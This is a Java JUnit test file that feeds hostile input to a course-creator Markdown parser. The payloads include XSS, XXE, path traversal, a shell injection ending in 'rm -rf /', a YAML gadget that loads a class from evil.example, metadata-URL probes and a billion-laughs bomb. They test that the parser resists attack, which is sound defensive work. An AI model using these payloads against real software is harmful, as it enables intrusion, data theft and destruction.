package dev.coursecreator.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dev.coursecreator.markdown.ParsedCourse.Valid;
import dev.coursecreator.model.Slug;
import dev.coursecreator.model.message.MessageCodec;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Malicious input becomes harmless slides and narration, or errors; it never breaks the parser. */
class HostileMarkdownTest {

    /** An eighth of the maximum request size: enough for quadratic run time to exceed the timeout. */
    private static final int INPUT_LENGTH = 1 << 17;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "Before <b onclick=alert(1)>bold</b> after.",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<svg onload=alert(1)></svg>",
                "<style>@import 'https://evil.example/'</style>",
                "<?php system('id'); ?>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "# <script>alert(1)</script> A heading",
                "- <script>alert(1)</script> an item",
                "| a | b |\n|---|---|\n| <script>alert(1)</script> | c |"
            })
    void rawHtmlIsDropped(String html) {
        var script = json("# Course\n\nText.\n\n" + html + "\n\nMore.\n");
        assertThat(script)
                .doesNotContain(
                        "<script",
                        "<img",
                        "<b ",
                        "<iframe",
                        "<svg",
                        "<style",
                        "<?php",
                        "<!",
                        "<a ",
                        "onclick",
                        "evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a picture](https://evil.example/track.png)",
                "![a picture](file:///etc/passwd)",
                "![a picture](../../../../etc/passwd)",
                "![a picture][ref]\n\n[ref]: https://evil.example/track.png",
                "[a link](javascript:alert(1))",
                "[a link](https://evil.example/?secret)",
                "[a link](data:text/html;base64,PHNjcmlwdD4=)",
                "Text ![a picture](http://169.254.169.254/latest/meta-data) in a line."
            })
    void linkAndImageTargetsAreDropped(String link) {
        var script = json("# Course\n\nText.\n\n" + link + "\n\nMore.\n");
        assertThat(script).doesNotContain("evil.example", "/etc/passwd", "javascript:", "data:text", "169.254.169.254");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "/etc/passwd",
                "..\\\\..\\\\windows",
                "a/../../b",
                "con|nul:aux*",
                "$(touch x) `id` ; rm -rf /",
                "-i -filter_complex movie=/etc/passwd",
                "%2e%2e%2f",
                "a\u0000b",
                "\u202egnp.exe"
            })
    void titleBecomesASafeSlug(String title) {
        for (var markdown : new String[] {
            "# " + title + "\n\nText.\n", "---\ntitle: \"" + title.replace("\"", "") + "\"\n---\n\nText.\n"
        }) {
            if (CourseMarkdown.parse(markdown) instanceof Valid valid) {
                assertThat(Slug.of(valid.script().title(), "course"))
                        .as(markdown)
                        .matches("[\\p{L}\\p{N}]+(-[\\p{L}\\p{N}]+)*");
                assertThat(valid.script().title()).doesNotContain("\u0000", "\u202e");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
                "title: !!java.io.File [/etc/passwd]",
                "title: {a: [{b: [{c: [{d: [{e: [{f: 1}]}]}]}]}]}",
                "title: &a [*a]",
                "language: en; movie=/etc/passwd",
                "language: ../../en",
                "voice: [1, 2]"
            })
    void frontMatterAcceptsPlainTextValuesOnly(String yaml) {
        var parsed = CourseMarkdown.parse("---\n" + yaml + "\n---\n\n# Course\n\nText.\n");
        assertThat(parsed).isInstanceOfSatisfying(Valid.class, course -> {
            assertThat(course.script().warnings()).isNotEmpty();
            assertThat(course.script().language()).isEqualTo("en");
            assertThat(course.voice()).isNull();
        });
    }

    /** The "billion laughs" attack: ten aliases of ten aliases of ten aliases. */
    @Test
    void exponentiallyGrowingAliasesAreNotExpanded() {
        var yaml = new StringBuilder("---\na0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
        for (int i = 1; i < 12; i++) {
            yaml.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
        }
        assertThat(json(yaml + "---\n\n# Course\n\nText.\n")).hasSizeLessThan(2_000);
    }

    static Stream<String> pathologicalInputs() {
        return Stream.of(
                "> ".repeat(INPUT_LENGTH / 2),
                "- ".repeat(INPUT_LENGTH / 2),
                "1. ".repeat(INPUT_LENGTH / 3),
                "*".repeat(INPUT_LENGTH),
                "*a_ ".repeat(INPUT_LENGTH / 4),
                "**a ".repeat(INPUT_LENGTH / 4),
                "[".repeat(INPUT_LENGTH),
                "![".repeat(INPUT_LENGTH / 2),
                "[a](".repeat(INPUT_LENGTH / 4),
                "[a](<b".repeat(INPUT_LENGTH / 6),
                "[^a]: ".repeat(INPUT_LENGTH / 6),
                "<".repeat(INPUT_LENGTH),
                "<!--".repeat(INPUT_LENGTH / 4),
                "<a b='".repeat(INPUT_LENGTH / 6),
                "{{ a".repeat(INPUT_LENGTH / 4),
                "{% a ".repeat(INPUT_LENGTH / 5),
                "{{< a".repeat(INPUT_LENGTH / 5),
                "[[a".repeat(INPUT_LENGTH / 3),
                "![[a|".repeat(INPUT_LENGTH / 5),
                "%% a\n".repeat(INPUT_LENGTH / 5),
                "{::comment}\n".repeat(INPUT_LENGTH / 12),
                "{/* a\n".repeat(INPUT_LENGTH / 6),
                "{~~a~>".repeat(INPUT_LENGTH / 6),
                "{a}`b".repeat(INPUT_LENGTH / 5),
                "[@a ".repeat(INPUT_LENGTH / 4),
                "a:: b ".repeat(INPUT_LENGTH / 6),
                "++a+b".repeat(INPUT_LENGTH / 5),
                "+--".repeat(INPUT_LENGTH / 3),
                "+---+\n| a |\n".repeat(INPUT_LENGTH / 12),
                "| a\n".repeat(INPUT_LENGTH / 4),
                "(@a) b\n".repeat(INPUT_LENGTH / 7),
                "<table>\n\n".repeat(INPUT_LENGTH / 9),
                "<h1>a\n\n".repeat(INPUT_LENGTH / 7),
                "export const a = {\n\n".repeat(INPUT_LENGTH / 20),
                "<img src=\"https://img.shields.io/a\"> ".repeat(INPUT_LENGTH / 38),
                "![a](https://img.shields.io/b) ".repeat(INPUT_LENGTH / 31),
                "**a**\n\n".repeat(INPUT_LENGTH / 7),
                "- [a](#b)\n".repeat(INPUT_LENGTH / 10),
                "a[^b] ".repeat(INPUT_LENGTH / 6),
                "# a\n\n---\n\n".repeat(INPUT_LENGTH / 10),
                "```{figure} a\n:b: c\n```\n".repeat(INPUT_LENGTH / 24),
                "&".repeat(INPUT_LENGTH),
                "\\".repeat(INPUT_LENGTH),
                "`".repeat(INPUT_LENGTH),
                ".".repeat(INPUT_LENGTH),
                "!\"".repeat(INPUT_LENGTH / 2),
                "e.g. ".repeat(INPUT_LENGTH / 5),
                "a. (\"".repeat(INPUT_LENGTH / 5),
                ("a." + " ".repeat(100)).repeat(INPUT_LENGTH / 102),
                "(pause: ".repeat(INPUT_LENGTH / 8),
                "a@".repeat(INPUT_LENGTH / 2),
                "www.".repeat(INPUT_LENGTH / 4),
                "http://a.".repeat(INPUT_LENGTH / 9),
                "~~a ".repeat(INPUT_LENGTH / 4),
                "a".repeat(INPUT_LENGTH),
                "a. ".repeat(INPUT_LENGTH / 3),
                "ein ".repeat(INPUT_LENGTH / 4),
                "\u6f22\u3042 ".repeat(INPUT_LENGTH / 3),
                "# a\n".repeat(INPUT_LENGTH / 4),
                "## a\n\n".repeat(INPUT_LENGTH / 6),
                "```\n".repeat(INPUT_LENGTH / 4),
                "```java " + "{1-9".repeat(INPUT_LENGTH / 4) + "}\na\n```\n",
                "```java {" + "1,".repeat(INPUT_LENGTH / 2) + "}\na\n```\n",
                "```java " + "{1}".repeat(INPUT_LENGTH / 3) + "\na\n```\n",
                "|".repeat(INPUT_LENGTH),
                "|a".repeat(INPUT_LENGTH / 4) + "|\n" + "|-".repeat(INPUT_LENGTH / 4) + "|\n",
                "- [ ] ```\n".repeat(INPUT_LENGTH / 10),
                "Which?\n\n- [ ] a\n> b\n".repeat(INPUT_LENGTH / 20),
                "Which?\n\n" + "- [x] a\n> b\n".repeat(INPUT_LENGTH / 12),
                "Which?\n\n" + "    a\n\n<!-- -->\n\n".repeat(INPUT_LENGTH / 18),
                "Pick one.\n\n".repeat(INPUT_LENGTH / 11),
                "Which?\n\n- [x] " + "?".repeat(INPUT_LENGTH) + "a\n- [ ] b\n",
                "[( )] a\n".repeat(INPUT_LENGTH / 8),
                "[[a]]\n\n".repeat(INPUT_LENGTH / 7),
                "[[" + "a|".repeat(INPUT_LENGTH / 2) + "]]\n",
                "```quiz\n```\n".repeat(INPUT_LENGTH / 12),
                "```quiz\n" + "a\n".repeat(INPUT_LENGTH / 2) + "```\n",
                "<Quiz>\n".repeat(INPUT_LENGTH / 7),
                "<Quiz>\n\n</Quiz>\n\n".repeat(INPUT_LENGTH / 18),
                "<Quiz a={".repeat(INPUT_LENGTH / 9),
                "<Quiz a={" + "[".repeat(INPUT_LENGTH),
                "<Quiz>" + "<Answer>".repeat(INPUT_LENGTH / 8),
                "<Quiz answers={[" + "1,".repeat(INPUT_LENGTH / 2) + "]} answer={[" + "2,".repeat(9) + "]}/>",
                "$".repeat(INPUT_LENGTH),
                "$a ".repeat(INPUT_LENGTH / 3),
                "$a$ ".repeat(INPUT_LENGTH / 16),
                "$$a ".repeat(INPUT_LENGTH / 4) + "$",
                "$$\n".repeat(INPUT_LENGTH / 3),
                "$`a ".repeat(INPUT_LENGTH / 4),
                "\\(a ".repeat(INPUT_LENGTH / 4),
                "\\[a ".repeat(INPUT_LENGTH / 4),
                "\\(".repeat(INPUT_LENGTH / 4) + "\\)",
                "$$\n" + "{".repeat(INPUT_LENGTH) + "\n$$\n",
                "$" + "5 a".repeat(INPUT_LENGTH / 3) + "$",
                "\u202e".repeat(INPUT_LENGTH / 4),
                "\ud83d".repeat(INPUT_LENGTH / 4),
                "\u0000".repeat(INPUT_LENGTH),
                "\t".repeat(INPUT_LENGTH),
                "\r".repeat(INPUT_LENGTH / 2),
                "---\nclass: a\n".repeat(INPUT_LENGTH / 13),
                "a\n".repeat(INPUT_LENGTH / 2),
                "a<br>".repeat(INPUT_LENGTH / 5),
                "a  \n".repeat(INPUT_LENGTH / 4),
                "<div>".repeat(INPUT_LENGTH / 5),
                "<b>a".repeat(INPUT_LENGTH / 4),
                "{% ".repeat(INPUT_LENGTH / 3),
                "{#a".repeat(INPUT_LENGTH / 3),
                "![[".repeat(INPUT_LENGTH / 3),
                "![[a.png".repeat(INPUT_LENGTH / 8),
                "a\n![](b.png)\n".repeat(INPUT_LENGTH / 13),
                "![](b.png){".repeat(INPUT_LENGTH / 11),
                "[![](b)](".repeat(INPUT_LENGTH / 9),
                "a <img ".repeat(INPUT_LENGTH / 7),
                "{{#include a\n".repeat(INPUT_LENGTH / 13),
                "{{#include a.md}}\n".repeat(INPUT_LENGTH / 18),
                "--8<--\n".repeat(INPUT_LENGTH / 7),
                "--8<-- '".repeat(INPUT_LENGTH / 8),
                "Note: a\n\n".repeat(INPUT_LENGTH / 9),
                ":::note\n".repeat(INPUT_LENGTH / 8),
                "(callout: |\n".repeat(INPUT_LENGTH / 12),
                "(voice: a)\n".repeat(INPUT_LENGTH / 11),
                "{{1}}".repeat(INPUT_LENGTH / 5),
                "--{{".repeat(INPUT_LENGTH / 4),
                ":::note\n".repeat(INPUT_LENGTH / 20) + ":::\n".repeat(INPUT_LENGTH / 20),
                ":::{" + "a ".repeat(INPUT_LENGTH / 2) + "}\n:::\n",
                ":::{note}\n:a: b\n".repeat(INPUT_LENGTH / 16),
                ":".repeat(INPUT_LENGTH),
                "!!! a\n    ".repeat(INPUT_LENGTH / 10),
                "!!! " + "a ".repeat(INPUT_LENGTH / 2) + "\n",
                "> [!a]\n\n".repeat(INPUT_LENGTH / 8),
                "> **Note**\n\n".repeat(INPUT_LENGTH / 12),
                "==a ".repeat(INPUT_LENGTH / 4),
                "a~b".repeat(INPUT_LENGTH / 3),
                "a^b".repeat(INPUT_LENGTH / 3),
                "a\n: b\n".repeat(INPUT_LENGTH / 6),
                ":a:".repeat(INPUT_LENGTH / 3),
                "a[^1] ".repeat(INPUT_LENGTH / 6) + "\n\n[^1]: b\n",
                "^[".repeat(INPUT_LENGTH / 2),
                "^[a] ".repeat(INPUT_LENGTH / 5),
                "```{" + "a ".repeat(INPUT_LENGTH / 2) + "\na\n```\n",
                "+++\n" + "a = [".repeat(20_000) + "\n+++\n",
                "---\n" + "[".repeat(90_000) + "\n---\n",
                "---\n" + "a: {".repeat(20_000) + "\n---\n",
                "---\n" + "? ".repeat(40_000) + "\n---\n",
                "---\n" + "- ".repeat(40_000) + "\n---\n");
    }

    /** The timeout is not a benchmark: it is a hundred times the expected time and catches only quadratic or endless parsing. */
    @ParameterizedTest
    @MethodSource("pathologicalInputs")
    @Timeout(value = 120, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void pathologicalInputIsParsedInTime(String input) {
        assertThat(CourseMarkdown.parse(input.startsWith("---") ? input : "# Course\n\nText.\n\n" + input))
                .isNotNull();
        assertThat(CourseMarkdown.parse("---\nmarp: true\n---\n\n" + input)).isNotNull();
    }

    private static String json(String markdown) {
        return CourseMarkdown.parse(markdown) instanceof Valid valid
                ? MessageCodec.json().writeValueAsString(valid.script())
                : "";
    }
}
